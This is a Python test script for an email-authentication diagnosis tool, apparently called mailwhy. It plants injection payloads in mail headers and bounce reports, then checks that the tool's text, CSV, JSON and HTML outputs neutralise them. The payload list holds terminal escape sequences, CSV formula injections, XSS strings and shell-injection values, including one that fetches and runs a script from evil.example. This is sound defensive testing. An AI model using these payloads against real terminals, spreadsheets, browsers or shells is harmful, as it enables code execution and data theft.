# SPDX-License-Identifier: LGPL-2.1-or-later
"""Everything a message can say, said in every place it can say it, in every format: nothing of it may
act on the terminal, the spreadsheet, the browser, the shell or whoever reads the data. A program for
each format reads all messages, so that it takes seconds. Prints TAP.

    injection.py MAILWHY SCRATCH
"""
import csv
import html.parser
import io
import json
import os
import re
import shlex
import subprocess
import sys

ESC = "\x1b"
PAYLOADS = [
    # the terminal
    ESC + "[31mred", ESC + "]0;title\x07", ESC + "]52;c;Zm9v\x07", ESC + "P+q\x1b\\", "\x9b31mred", "\x07\x08\x08\x7f", "a\x00b", "one\rtwo",
    # direction and what nobody sees
    "\u202eevil\u202c", "\u2066x\u2069", "\u200fx\u200e", "\u061cx", "a\u2028b\u2029c", "\ufeffx", "a\u0085b",
    # the spreadsheet
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', '","=1+1', "\t=1+1", ";=1+1",
    # the data
    '"}],"verdict":{"status":"pass"},"x":[{"y":"', "\\", '\\"', "\\u0000", "'",
    # the browser
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "javascript:alert(1)", "</title><b>", "&lt;b&gt;",
    # Markdown
    "[x](http://evil.example)", "`x`", "| x | y |", "![x](http://evil.example/i.png)",
    # the shell
    "$(curl${IFS}evil.example|sh)", "`id`", "a;id", "a|id", "a&&id", "-x", "'\"", "a b", "{a,b}", "~root", "*",
    # the format
    "%s%n%x", "{from.domain}", "--", "\udcff\udcfe", "a" * 300,
]

# Where it stands; {} is the payload. AR: the results, SIG: the signature's tags.
PLACES = [
    "From: {} <a@opera.example>", "From: a@{}", "From: {}", "Subject: {}", "Message-ID: <{}@opera.example>", "To: {}", "Reply-To: {}",
    "Return-Path: <{}@opera.example>", "Return-Path: <a@{}>", "Date: {}", "List-Id: {}", "X-Mailer: {}", "Content-Type: {}",
    "Content-Type: text/plain; charset={}",
    "Received: from {} (x.example [192.0.2.1]) by mx.recipient.example with ESMTP id 1; Mon, 9 Nov 2026 10:30:05 +0000",
    "Received: from x.example (x.example [192.0.2.1]) by {} with ESMTP id 1; Mon, 9 Nov 2026 10:30:05 +0000",
    "Received-SPF: fail ({}) client-ip=192.0.2.1; envelope-from=a@opera.example; helo=x.example",
    "Received-SPF: fail (x) client-ip={}; envelope-from=a@{}; helo={}",
    "Authentication-Results: {}; dkim=fail header.d=opera.example; spf=fail smtp.mailfrom=opera.example; dmarc=fail header.from=opera.example",
    "Authentication-Results: mx.recipient.example; dkim=fail ({}) header.d=opera.example; dmarc=fail (p=reject) header.from=opera.example",
    'Authentication-Results: mx.recipient.example; dkim=fail reason="{}" header.d=opera.example',
    "Authentication-Results: mx.recipient.example; dkim=fail header.d={} header.s={}; spf=fail smtp.mailfrom={}; dmarc=fail header.from={}",
    "Authentication-Results: mx.recipient.example; dkim={} header.d=opera.example",
    "DKIM-Signature: v=1; a=rsa-sha256; d={}; s={}; h=from; bh=QQ==; b=QQ==",
    "DKIM-Signature: v=1; a=rsa-sha256; d=opera.example; s={}; i={}; h=from:{}; c={}; bh=QQ==; b=QQ==",
    "X-Spam-Status: Yes, score=9 tests={}", "X-MS-Exchange-Authentication-Results: {}",
    "ARC-Authentication-Results: i=1; {}; dkim=fail header.d={}",
]
USUAL = {
    "Authentication-Results": "mx.recipient.example; dkim=fail (no key for signature) header.d=opera.example header.s=sel1;"
                              " spf=fail smtp.mailfrom=opera.example; dmarc=fail header.from=opera.example",
    "Received": "from x.example (x.example [192.0.2.1]) by mx.recipient.example with ESMTP id 1; Mon, 9 Nov 2026 10:30:05 +0000",
    "From": "Opera <a@opera.example>", "Subject": "Tickets", "Date": "Mon, 9 Nov 2026 10:30:00 +0000",
}


def raw(text):
    return text.encode("utf-8", "surrogateescape")


def message(place, payload):
    line = place.replace("{}", payload)
    name = place.split(":")[0]
    fields = [line] + [f"{key}: {value}" for key, value in USUAL.items() if key != name]
    if name == "DKIM-Signature":  # the receiver says the same of it, so that rules speak of the selector
        fields.insert(0, f"Authentication-Results: mx.recipient.example; dkim=fail (no key for signature) header.d={payload} header.s={payload}")
    return raw("\n".join(fields) + f"\n\n{payload}\n")


def bounce(payload):
    return raw(
        "From: Mail Delivery System <MAILER-DAEMON@mx.recipient.example>\nSubject: Undelivered Mail\n"
        "Content-Type: multipart/report; report-type=delivery-status; boundary=b\n\n--b\n\n"
        f"{payload}\n--b\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; {payload}\n\n"
        f"Final-Recipient: rfc822; {payload}@recipient.example\nAction: failed\nStatus: 5.7.26\n"
        f"Diagnostic-Code: smtp; 550 5.7.26 {payload} unauthenticated\n\n--b\nContent-Type: text/rfc822-headers\n\n"
        f"From: {payload} <a@opera.example>\nDKIM-Signature: v=1; a=rsa-sha256; d=opera.example; s={payload}; h=from; bh=QQ==; b=QQ==\n\n--b--\n")


def write_all(folder):
    os.makedirs(folder)
    n = 0
    for payload in PAYLOADS:
        for text in [message(place, payload) for place in PLACES] + [bounce(payload)]:
            with open(os.path.join(folder, f"{n:05}.eml"), "wb") as file:
                file.write(text)
            n += 1
    with open(os.path.join(folder, "=1+1.eml"), "wb") as file:
        file.write(message(PLACES[0], "name of a file"))
    return n + 1


class Answers:
    def __init__(self, mailwhy, folder):
        self.command, self.folder = mailwhy, folder

    def run(self, *options):
        done = subprocess.run([self.command, "-j", "1", *options, self.folder], capture_output=True, check=False,
                              env={"LC_ALL": "C.UTF-8", "XDG_CONFIG_HOME": "/nonexistent", "MAILWHY_CONFIG": ""})
        assert done.returncode in (0, 1), (options, done.returncode, done.stderr[-500:])
        return done.stdout


UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]")


def unsafe_text(out, allowed=""):
    text = out.decode("utf-8")  # strict: what is no UTF-8 is a failure
    return [repr(text[max(0, m.start() - 40):m.end() + 20]) for m in UNSAFE.finditer(text) if m.group() not in allowed]


PLAIN_WORD = re.compile(r"[A-Za-z0-9_.:+-]+")


def unsafe_commands(out):
    bad = []
    for line in out.decode("utf-8").splitlines():
        command = re.search(r"(?:^|\s)(dig\s.*)$", line)
        if command is None:
            continue
        try:
            words = shlex.split(command.group(1))
        except ValueError:
            words = ["?!"]
        bad += [line for word in words if not PLAIN_WORD.fullmatch(word)][:1]
    return bad


class Page(html.parser.HTMLParser):
    """Tags and attributes that a payload would bring."""
    URL = re.compile(r"(https://|mailto:|#|data:image/)")

    def __init__(self):
        super().__init__()
        self.bad = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "img", "iframe", "object", "embed", "form", "base", "link"):
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or (name in ("href", "src") and not self.URL.match(value or "")):
                self.bad.append(f"{name}={value}")


def unsafe_rows(out):
    rows = list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))
    bad = [f"{len(row)} cells" for row in rows if len(row) != len(rows[0])]
    return bad + [cell[:60] for row in rows for cell in row
                  if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?[0-9.]+", cell)]


def unsafe_records(out, n):
    records = [json.loads(line) for line in out.decode("utf-8").splitlines()]
    bad = [] if len(records) == n else [f"{len(records)} records of {n}"]
    keys = set(records[0])
    return bad + ["other keys" for record in records if set(record) != keys]


def commands_in(value):
    if isinstance(value, dict):
        for key, inner in value.items():
            if key in ("check", "command") and isinstance(inner, str):
                yield inner
            yield from commands_in(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from commands_in(inner)


def main():
    mailwhy, scratch = sys.argv[1:]
    folder = os.path.join(scratch, "messages")
    n = write_all(folder)
    answers = Answers(mailwhy, folder)
    number = 0

    def point(title, bad):
        nonlocal number
        number += 1
        for line in bad[:5]:
            print("#", line.encode("unicode_escape").decode())
        print("ok" if not bad else "not ok", number, "-", title)

    text = answers.run("--verbose")
    point(f"{n} messages as text: nothing acts on a terminal", unsafe_text(text))
    point("a shell finds plain words only in a command", unsafe_commands(text))
    brief = answers.run("--each")
    point("a line for each", unsafe_text(brief))
    reply = answers.run("--format=reply")
    point("replies", unsafe_text(reply))
    point("and the commands in them", unsafe_commands(reply))
    data = answers.run("--format=jsonl")
    point("JSON: a record for each message, with the usual keys", unsafe_records(data, n))
    point("in which nothing acts", unsafe_text(data))
    said = "\n".join(c for line in data.decode().splitlines() for c in commands_in(json.loads(line)) if c.startswith("dig "))
    point("and whose commands are plain", unsafe_commands(said.encode()) if said else ["there is none"])
    table = answers.run("--format=csv")
    point("CSV: rows of one length, and no formula", unsafe_rows(table))
    point("in which nothing acts", unsafe_text(table, allowed="\r"))
    summary = answers.run("--by=domain") + answers.run("--by=receiver") + answers.run("--by=cause")
    point("summaries", unsafe_text(summary))
    one = answers.run("--summary-json")
    json.loads(one)
    point("as data", unsafe_text(one))
    page = Page()
    out = answers.run("--format=html")
    page.feed(out.decode("utf-8"))
    point("HTML: no tag, handler or link that a message brought", page.bad)
    point("in which nothing acts", unsafe_text(out))
    print(f"1..{number}")


main()
